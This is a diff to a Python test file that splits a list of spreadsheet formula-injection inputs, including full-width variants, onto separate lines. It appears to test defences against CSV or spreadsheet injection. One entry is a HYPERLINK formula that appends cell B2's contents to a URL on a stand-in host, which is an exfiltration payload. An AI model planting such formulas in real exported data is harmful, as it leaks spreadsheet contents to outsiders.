@@ -16,7 +16,19 @@ from tests.places import Hall
 
 HYPERLINK = '=HYPERLINK("http://x/?"&B2,"x")'
 # Each starts as a spreadsheet reads a formula (full-width: as Japanese Excel may).
-FORMULAS = [HYPERLINK, "=1+2", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+2", "＋1", "－1", "＠A"]
+FORMULAS = [
+    HYPERLINK,
+    "=1+2",
+    "+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "＝1+2",
+    "＋1",
+    "－1",
+    "＠A",
+]
 
 
 @pytest.mark.parametrize("text", FORMULAS)
